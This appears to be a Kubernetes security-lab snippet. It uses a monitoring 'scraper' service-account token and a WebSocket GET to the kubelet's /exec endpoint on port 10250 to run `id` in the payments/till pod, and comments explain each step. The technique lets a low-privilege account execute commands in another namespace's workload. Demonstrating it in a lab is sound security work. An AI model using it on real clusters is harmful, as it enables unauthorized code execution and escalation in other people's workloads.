# Asks the kubelet to run `id` in Pod payments/till, with a token of the scraper and one GET.
# The headers turn the connection into a WebSocket, as kubectl exec does; curl prints what comes through it.
kubectl create token scraper -n monitoring | k8s-sec-lab node -- sh -c '
  curl -sk --http1.1 --max-time 5 -H "Authorization: Bearer $(cat)" \
    -H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Version: 13" \
    -H "Sec-WebSocket-Key: dGhlIHRpbGwgaXMgb3Blbg==" -H "Sec-WebSocket-Protocol: v4.channel.k8s.io" \
    "https://$(hostname):10250/exec/payments/till/till?command=id&output=1"' |
  tr -cd '[:print:]\n' | sed 's/^[^a-zA-Z]*//' | grep -v '^metadata'
